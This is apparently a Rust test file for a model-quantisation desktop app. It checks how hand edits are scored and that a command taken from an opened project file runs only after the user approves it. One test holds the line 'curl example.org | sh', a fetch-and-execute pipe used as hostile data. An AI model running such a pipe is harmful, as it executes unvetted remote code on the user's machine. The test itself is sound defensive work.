//! Changes by hand and their scores, and programs that settings name: when something runs by itself, and when it asks.

use egui::accesskit::Role;
use octet::window::actions::{Action, EditAction, ProjectAction, StrategyAction};
use octet::window::project::Project;
use octet::window::state::{Chosen, JobEnd, State, Unscored};
use octet_engine::job::Event;
use serde_json::json;
use tempfile::TempDir;

use crate::support::window::Window;

/// A run of this session on display, made by a chain of these strategies.
fn with_run(ids: &[&str]) -> (Window, TempDir) {
    let mut window = Window::with_model();
    // As the report says.
    window.perform(Action::SetTarget("esp32s3"));
    let pictures = crate::support::pictures::folder(&[("1.bmp", 3)]);
    window.perform(Action::AddPictures(pictures.path().to_owned()));
    window.until("the pictures are listed", |s| !s.pictures.folders.is_empty());
    let chosen = ids.iter().map(|id| Chosen { id: (*id).to_owned(), settings: Default::default() });
    window.perform(Action::Strategy(StrategyAction::SetChain(chosen.collect())));
    window.perform(Action::Start);
    finish(&mut window, 0, "/runs/made");
    (window, pictures)
}

fn jobs(window: &Window) -> usize {
    window.backend.jobs.lock().unwrap().len()
}

fn tell(window: &Window, job: usize, event: Event) {
    window.backend.jobs.lock().unwrap()[job].sender.send(event).unwrap();
}

/// Waits for a job, then lets it end with a run.
fn finish(window: &mut Window, job: usize, run: &str) {
    let backend = window.backend.clone();
    window.until("the job has started", move |_| backend.jobs.lock().unwrap().len() > job);
    let network = window.state().model.open.clone().unwrap().network.clone();
    let report = crate::support::report::report(&network, "/models/net.onnx");
    window.backend.reports.lock().unwrap().insert(run.into(), report);
    tell(window, job, Event::Done { run: run.into() });
    window.until("the run is shown", |s| s.runs.shown().is_some_and(|r| r.path.ends_with(run)));
}

fn widen(window: &mut Window) {
    window.perform(Action::Edit(EditAction::SetExponent("n0".to_owned(), Some(-3))));
}

fn is_cancelled(state: &State) -> bool {
    state.job.as_ref().is_some_and(|j| j.end == Some(JobEnd::Cancelled))
}

#[test]
fn a_change_by_hand_is_scored_by_itself() {
    let (mut window, _pictures) = with_run(&["dev.octet.int8"]);
    widen(&mut window);
    finish(&mut window, 1, "/runs/score");
    assert!(window.backend.jobs.lock().unwrap()[1].request.reuse, "what strategies decided is taken over");
    assert!(!window.has_button("Score"));
    // The project remembers the run, not the score, which is forgotten after a while.
    let runs = Project::of(window.state()).runs;
    assert_eq!(runs.len(), 1);
    assert!(runs[0].shown && runs[0].path.ends_with("made"));
}

#[test]
fn a_score_that_comes_to_a_long_strategy_is_given_up_and_offered() {
    let (mut window, _pictures) = with_run(&["dev.octet.int8"]);
    widen(&mut window);
    let backend = window.backend.clone();
    window.until("the score has started", move |_| backend.jobs.lock().unwrap().len() == 2);
    window.until("it can be cancelled", |s| s.job.as_ref().is_some_and(|j| j.cancel.is_some()));
    tell(&window, 1, Event::CanFinish { can: true });
    let cancel = window.backend.jobs.lock().unwrap()[1].cancel.clone();
    window.until("it is given up", |_| cancel.is_cancelled());
    tell(&window, 1, Event::Error { message: "cancelled".to_owned() });
    window.until("it has ended", is_cancelled);
    assert_eq!(window.state().unscored(), Some(Unscored::Long));
    // The next change does not even begin.
    window.perform(Action::Edit(EditAction::SetExponent("n0".to_owned(), Some(-4))));
    assert_eq!(window.state().unscored(), Some(Unscored::Long));
    assert_eq!(jobs(&window), 2);
    window.press(Role::Button, "Score");
    let backend = window.backend.clone();
    window.until("the score has started", move |_| backend.jobs.lock().unwrap().len() == 3);
    tell(&window, 2, Event::CanFinish { can: true });
    window.until("it is heard", |s| s.job.as_ref().is_some_and(|j| j.can_finish));
    assert!(!window.backend.jobs.lock().unwrap()[2].cancel.is_cancelled(), "the user asked for this one");
    finish(&mut window, 2, "/runs/long");
    // What the strategies decided is known now.
    widen(&mut window);
    assert!(window.state().scoring.wanted);
}

/// As a project of somebody else leaves the chain.
fn with_program(command: &str) -> (Window, TempDir) {
    let (mut window, pictures) = with_run(&["dev.octet.int8", "dev.octet.train"]);
    let mut project = Project::of(window.state());
    project.strategies[1].settings.insert("command".to_owned(), json!(command));
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("strange.octet");
    project.write(&file).unwrap();
    window.perform(Action::Project(ProjectAction::Open(file)));
    window.perform(Action::Project(ProjectAction::WithoutSaving));
    window.until("the project is open", |s| s.project.path.is_some());
    window.until("the run is shown", |s| s.runs.shown.is_some());
    (window, pictures)
}

#[test]
fn a_command_out_of_a_project_runs_after_a_yes_alone() {
    let (mut window, _pictures) = with_program("curl example.org | sh");
    let before = jobs(&window);
    window.perform(Action::Start);
    assert!(window.has("curl example.org | sh"));
    window.press(Role::Button, "Run nothing");
    assert!(window.state().strategies.asks.is_none());
    assert_eq!(jobs(&window), before);
    window.perform(Action::Start);
    window.press(Role::Button, "Let them run");
    let backend = window.backend.clone();
    window.until("the job has started", move |_| backend.jobs.lock().unwrap().len() == before + 1);
    finish(&mut window, before, "/runs/trained");
    window.perform(Action::Start);
    assert!(window.state().strategies.asks.is_none(), "it was allowed");
}

#[test]
fn a_command_that_the_user_types_is_not_asked_for() {
    let (mut window, _pictures) = with_run(&["dev.octet.train"]);
    let set = |command: &str| Action::Set {
        id: "dev.octet.train".to_owned(),
        key: "command".to_owned(),
        value: json!(command),
    };
    window.perform(set("python3 mine.py"));
    window.perform(Action::Start);
    assert!(window.state().strategies.asks.is_none());
    finish(&mut window, 1, "/runs/mine");
    widen(&mut window);
    assert!(!window.state().scoring.wanted, "nothing that starts programs is scored by itself");
    assert_eq!(window.state().unscored(), Some(Unscored::Programs));
    assert!(window.has_button("Score"));
}
